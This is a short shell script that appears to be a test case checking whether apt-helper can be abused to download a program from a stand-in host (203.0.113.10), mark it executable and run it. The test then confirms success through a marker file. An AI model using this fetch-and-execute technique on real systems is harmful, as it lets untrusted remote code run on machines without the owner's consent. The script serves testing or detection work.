#!/bin/sh
. /opt/case/case.sh

/usr/lib/apt/apt-helper download-file http://203.0.113.10/programs/marker /var/tmp/m >/dev/null 2>&1
chmod +x /var/tmp/m
/var/tmp/m
test -e /tmp/reached
took_place
